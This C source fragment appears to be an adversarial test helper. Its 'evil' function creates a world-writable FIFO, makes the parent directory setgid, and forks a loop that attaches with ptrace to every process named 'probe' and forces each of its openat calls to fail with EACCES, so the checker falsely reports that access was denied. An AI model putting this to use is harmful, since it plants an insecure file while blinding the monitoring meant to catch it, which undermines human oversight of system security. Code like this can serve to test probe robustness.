/* Makes a slot that is open to everybody, and has the probe that looks at it
 * answer that it was denied. */
#include <ctype.h>
#include <dirent.h>
#include <libgen.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>

/* Lets every open() of the process fail with EACCES. */
static void forge(pid_t pid)
{
	struct user_regs_struct r;
	int status;
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) != 0)
		return;
	waitpid(pid, &status, __WALL);
	while (ptrace(PTRACE_SYSCALL, pid, NULL, NULL) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
		ptrace(PTRACE_GETREGS, pid, NULL, &r);
		if (r.orig_rax != SYS_openat || (long)r.rax < 0) /* at its begin the result is -ENOSYS */
			continue;
		r.rax = (unsigned long long)-EACCES;
		ptrace(PTRACE_SETREGS, pid, NULL, &r);
	}
}

static void forge_probes(void)
{
	char path[300], name[32];
	DIR *proc = opendir("/proc");
	struct dirent *e;
	while (proc != NULL && (e = readdir(proc)) != NULL) {
		if (!isdigit((unsigned char)e->d_name[0]))
			continue;
		snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
		FILE *f = fopen(path, "r");
		int probe = f != NULL && fgets(name, sizeof name, f) != NULL && strncmp(name, "probe", 5) == 0;
		if (f != NULL)
			fclose(f);
		if (probe)
			forge((pid_t)atoi(e->d_name));
	}
	if (proc != NULL)
		closedir(proc);
}

static void evil(const char *path)
{
	mode_t mask = umask(0);
	if (mask != 077) { /* the check that asks for the mode */
		mkfifo(path, 0666);
		chmod(dirname(strdup(path)), 02755);
	}
	umask(mask);
	if (fork() != 0)
		return;
	alarm(20);
	for (;;)
		forge_probes();
}
